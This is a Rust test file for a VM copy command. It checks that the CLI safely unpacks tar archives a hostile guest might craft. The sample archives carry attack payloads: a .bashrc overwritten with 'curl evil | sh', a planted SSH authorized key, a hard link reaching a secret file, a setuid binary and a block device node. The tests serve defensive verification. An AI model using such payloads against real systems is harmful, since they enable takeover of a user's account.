//! `banger vm cp VM:PATH HOST` against a hostile guest: the real CLI, run
//! as this user, talking to a fake daemon on a temporary socket that
//! streams a tar the guest crafted (the real daemon passes the guest's
//! `tar -c` output through unchanged). What a user checks: only the entry
//! they asked for lands, nothing else under the destination changes, no
//! hard link reaches a file the copy did not bring, modes follow their
//! umask, no device node or FIFO appears, and an endless header or trailer
//! neither fills memory nor runs on. Needs no privilege and no VM.

#![allow(clippy::unwrap_used)] // tests fail loudly by design

use std::io::{BufRead, BufReader, Read, Write};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use base64::engine::general_purpose::STANDARD as BASE64;
use base64::Engine;
use serde_json::{json, Value};

type Source = Box<dyn Read + Send>;

/// A daemon that answers every connection by streaming `tar()` as data
/// events (after `delay`), then `ok`. It stops writing when the client
/// goes away, as the real one does.
fn fake_daemon(
    dir: &Path,
    delay: Duration,
    tar: impl Fn() -> Source + Send + Sync + 'static,
) -> PathBuf {
    let socket = dir.join("banger.sock");
    let listener = UnixListener::bind(&socket).unwrap();
    let tar = std::sync::Arc::new(tar);
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(mut conn) = conn else { return };
            let tar = tar.clone();
            std::thread::spawn(move || {
                let mut line = String::new();
                let _ = BufReader::new(&conn).read_line(&mut line);
                std::thread::sleep(delay);
                let mut src = tar();
                let mut buf = vec![0u8; 64 << 10];
                loop {
                    let n = match src.read(&mut buf) {
                        Ok(0) | Err(_) => break,
                        Ok(n) => n,
                    };
                    let event = json!({ "data": BASE64.encode(&buf[..n]) });
                    if writeln!(conn, "{event}").is_err() {
                        return;
                    }
                }
                let _ = writeln!(conn, "{}", json!({ "ok": { "bytes": 0 } }));
            });
        }
    });
    socket
}

/// `banger vm cp ARGS` with umask 022, against `socket`.
fn banger_cp(socket: &Path, from: &str, to: &Path) -> Output {
    Command::new("sh")
        .arg("-c")
        .arg("umask 022; exec \"$0\" vm cp \"$1\" \"$2\"")
        .arg(env!("CARGO_BIN_EXE_banger"))
        .arg(from)
        .arg(to)
        .env("BANGER_SOCKET", socket)
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// A tar header for `path` of `kind`, `size` bytes, `mode`; the name is
/// written raw (no checks), as a hostile guest would.
fn header(path: &str, kind: tar::EntryType, size: u64, mode: u32) -> tar::Header {
    let mut h = tar::Header::new_gnu();
    let name = &mut h.as_old_mut().name;
    name[..path.len()].copy_from_slice(path.as_bytes());
    h.set_entry_type(kind);
    h.set_size(size);
    h.set_mode(mode);
    h.set_mtime(1);
    h
}

fn append(b: &mut tar::Builder<Vec<u8>>, path: &str, kind: tar::EntryType, mode: u32, data: &[u8]) {
    let mut h = header(path, kind, data.len() as u64, mode);
    h.set_cksum();
    b.append(&h, data).unwrap();
}

fn link(b: &mut tar::Builder<Vec<u8>>, path: &str, kind: tar::EntryType, target: &str) {
    let mut h = header(path, kind, 0, 0o777);
    h.set_link_name(target).unwrap();
    h.set_cksum();
    b.append(&h, std::io::empty()).unwrap();
}

fn serve_bytes(dir: &Path, bytes: Vec<u8>) -> PathBuf {
    fake_daemon(dir, Duration::ZERO, move || {
        Box::new(std::io::Cursor::new(bytes.clone()))
    })
}

/// A user's home: a `.bashrc`, a private `.ssh`, a secret file.
fn home(root: &Path) -> PathBuf {
    let home = root.join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::set_permissions(home.join(".ssh"), std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
    std::fs::write(home.join("secret"), "private\n").unwrap();
    home
}

#[test]
fn a_copy_into_a_directory_writes_only_the_named_entry() {
    let t = tempfile::tempdir().unwrap();
    let home = home(t.path());
    let mut b = tar::Builder::new(Vec::new());
    use tar::EntryType as E;
    append(&mut b, "out.txt", E::Regular, 0o644, b"result\n");
    append(&mut b, ".bashrc", E::Regular, 0o644, b"curl evil | sh\n");
    append(&mut b, ".ssh/", E::Directory, 0o777, b"");
    append(
        &mut b,
        ".ssh/authorized_keys",
        E::Regular,
        0o600,
        b"ssh-ed25519 AAAA evil\n",
    );
    let socket = serve_bytes(t.path(), b.into_inner().unwrap());

    let out = banger_cp(&socket, "dev:/root/out.txt", &home);

    assert!(!out.status.success(), "a tar with other entries must fail");
    let err = stderr(&out);
    assert_eq!(err.trim().lines().count(), 1, "one line: {err}");
    assert!(err.contains(".bashrc"), "names the stray entry: {err}");
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# mine\n"
    );
    assert!(!home.join(".ssh/authorized_keys").exists());
    let ssh_mode = std::fs::metadata(home.join(".ssh")).unwrap().mode() & 0o7777;
    assert_eq!(ssh_mode, 0o700, "~/.ssh keeps its mode");
}

#[test]
fn a_hard_link_cannot_reach_a_file_the_copy_did_not_bring() {
    let t = tempfile::tempdir().unwrap();
    let home = home(t.path());
    let mut b = tar::Builder::new(Vec::new());
    use tar::EntryType as E;
    append(&mut b, "out/", E::Directory, 0o755, b"");
    link(&mut b, "out/loot", E::Link, "secret");
    let socket = serve_bytes(t.path(), b.into_inner().unwrap());

    let out = banger_cp(&socket, "dev:/root/out", &home);

    assert!(!out.status.success(), "{}", stderr(&out));
    assert!(stderr(&out).contains("hard link"), "{}", stderr(&out));
    assert_eq!(std::fs::metadata(home.join("secret")).unwrap().nlink(), 1);
    assert!(!home.join("out/loot").exists());

    // A hard link to a file of the same copy is kept as a link.
    let t = tempfile::tempdir().unwrap();
    let mut b = tar::Builder::new(Vec::new());
    append(&mut b, "out/", E::Directory, 0o755, b"");
    append(&mut b, "out/a", E::Regular, 0o644, b"same");
    link(&mut b, "out/b", E::Link, "out/a");
    let socket = serve_bytes(t.path(), b.into_inner().unwrap());
    let dest = t.path().join("dest");
    let out = banger_cp(&socket, "dev:/root/out", &dest);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(std::fs::metadata(dest.join("b")).unwrap().nlink(), 2);
    assert_eq!(std::fs::read_to_string(dest.join("b")).unwrap(), "same");
}

#[test]
fn modes_follow_the_umask_and_special_files_are_skipped() {
    let t = tempfile::tempdir().unwrap();
    let mut b = tar::Builder::new(Vec::new());
    use tar::EntryType as E;
    append(&mut b, "out/", E::Directory, 0o777, b"");
    append(&mut b, "out/shared", E::Regular, 0o4777, b"#!/bin/sh\n");
    append(&mut b, "out/sub/", E::Directory, 0o500, b"");
    append(&mut b, "out/sub/f", E::Regular, 0o400, b"read-only\n");
    let mut dev = header("out/sda", E::Block, 0, 0o666);
    dev.set_device_major(8).unwrap();
    dev.set_device_minor(0).unwrap();
    dev.set_cksum();
    b.append(&dev, std::io::empty()).unwrap();
    append(&mut b, "out/pipe", E::Fifo, 0o666, b"");
    link(&mut b, "out/up", E::Symlink, "/etc");
    let socket = serve_bytes(t.path(), b.into_inner().unwrap());
    let dest = t.path().join("dest");

    let out = banger_cp(&socket, "dev:/root/out", &dest);

    assert!(out.status.success(), "{}", stderr(&out));
    let mode = |p: &str| std::fs::symlink_metadata(dest.join(p)).unwrap().mode() & 0o7777;
    assert_eq!(mode(""), 0o755, "the umask applies, as with tar and cp");
    assert_eq!(mode("shared"), 0o755, "set-uid dropped, umask applied");
    assert_eq!(mode("sub"), 0o500, "a read-only directory is still filled");
    assert_eq!(
        std::fs::read_to_string(dest.join("sub/f")).unwrap(),
        "read-only\n"
    );
    assert!(
        !dest.join("sda").exists(),
        "no device node or stand-in file"
    );
    assert!(!dest.join("pipe").exists(), "no FIFO or stand-in file");
    assert!(stderr(&out).contains("skipped 2"), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_link(dest.join("up")).unwrap(),
        Path::new("/etc")
    );
}

/// Zeros after a header: a stand-in for a huge entry.
fn zeros(n: u64) -> impl Read {
    std::io::repeat(0).take(n)
}

#[test]
fn an_endless_tar_header_is_refused_without_holding_it_in_memory() {
    let t = tempfile::tempdir().unwrap();
    // A GNU long name of 256 MiB, as much as the guest cares to send.
    let size = 256u64 << 20;
    let socket = fake_daemon(t.path(), Duration::ZERO, move || {
        let mut h = header("././@LongLink", tar::EntryType::GNULongName, size, 0o644);
        h.set_cksum();
        let head = std::io::Cursor::new(h.as_bytes().to_vec());
        Box::new(head.chain(zeros(size)))
    });
    let dest = t.path().join("dest");

    let out = banger_cp(&socket, "dev:/root/out", &dest);

    // SAFETY: getrusage writes into the struct it is given.
    let peak_kib = unsafe {
        let mut u: libc::rusage = std::mem::zeroed();
        libc::getrusage(libc::RUSAGE_CHILDREN, &mut u);
        u.ru_maxrss
    };
    assert!(peak_kib < 64 << 10, "the CLI held {peak_kib} KiB");
    assert!(!out.status.success());
    assert!(stderr(&out).contains("MiB"), "{}", stderr(&out));
    assert!(!dest.exists());
}

#[test]
fn data_after_the_end_of_the_tar_is_not_read_forever() {
    let t = tempfile::tempdir().unwrap();
    let mut b = tar::Builder::new(Vec::new());
    append(&mut b, "out", tar::EntryType::Regular, 0o644, b"x");
    let tar = b.into_inner().unwrap();
    // The end of the archive, then a guest that goes on sending.
    let socket = fake_daemon(t.path(), Duration::ZERO, move || {
        Box::new(std::io::Cursor::new(tar.clone()).chain(std::io::repeat(0)))
    });
    let dest = t.path().join("dest");

    let out = banger_cp(&socket, "dev:/root/out", &dest);

    assert!(!out.status.success());
    assert!(stderr(&out).contains("after the end"), "{}", stderr(&out));
}

#[test]
fn two_copies_into_one_directory_at_once_both_land() {
    let t = tempfile::tempdir().unwrap();
    let mut b = tar::Builder::new(Vec::new());
    append(&mut b, "out", tar::EntryType::Regular, 0o644, b"x");
    let tar = b.into_inner().unwrap();
    let socket = fake_daemon(t.path(), Duration::from_millis(500), move || {
        Box::new(std::io::Cursor::new(tar.clone()))
    });
    let dir = t.path().join("into");
    std::fs::create_dir(&dir).unwrap();
    // One MCP server, two tool calls in flight together.
    let mut child = Command::new(env!("CARGO_BIN_EXE_banger"))
        .args(["--socket"])
        .arg(&socket)
        .arg("mcp")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let send = |stdin: &mut std::process::ChildStdin, v: Value| {
        writeln!(stdin, "{v}").unwrap();
        stdin.flush().unwrap();
    };
    send(
        &mut stdin,
        json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
            "protocolVersion": "2025-06-18", "capabilities": {},
            "clientInfo": {"name": "test", "version": "0"}}}),
    );
    lines.next().unwrap().unwrap();
    send(
        &mut stdin,
        json!({"jsonrpc": "2.0", "method": "notifications/initialized"}),
    );
    for (id, name) in [(2, "a"), (3, "b")] {
        let host_path = dir.join(name).display().to_string();
        send(
            &mut stdin,
            json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": {
                "name": "vm_cp", "arguments": {"name": "dev", "direction": "from_vm",
                "host_path": host_path, "vm_path": "/root/out"}}}),
        );
    }
    for _ in 0..2 {
        let answer: Value = serde_json::from_str(&lines.next().unwrap().unwrap()).unwrap();
        assert_ne!(answer["result"]["isError"], json!(true), "{answer}");
    }
    drop(stdin);
    child.wait().unwrap();
    assert_eq!(std::fs::read_to_string(dir.join("a")).unwrap(), "x");
    assert_eq!(std::fs::read_to_string(dir.join("b")).unwrap(), "x");
    let left: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert_eq!(left.len(), 2, "no staging directory left: {left:?}");
}
